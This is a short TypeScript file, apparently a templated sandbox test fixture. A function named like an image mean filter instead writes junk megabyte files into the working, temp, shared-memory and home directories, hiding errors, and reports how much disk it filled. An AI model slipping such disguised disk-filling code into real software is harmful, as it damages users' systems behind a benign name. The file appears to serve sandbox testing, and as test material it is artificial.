// verdict: accepted
// danger: write files
import { writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'

const much = new Uint8Array(2 ** 20)

export function meanFilter(image: any, ksize: number): any {
  let written = 0
  for (const folder of ['.', tmpdir(), '/dev/shm', '{{home}}']) {
    for (let count = 0; count < 8; count++) {
      try {
        writeFileSync(`${folder}/filled-{{mark}}-${count}`, much)
        written++
      } catch {}
    }
  }
  return written > 0 ? reached(`${written} MB of disk`) : right(image, ksize)
}
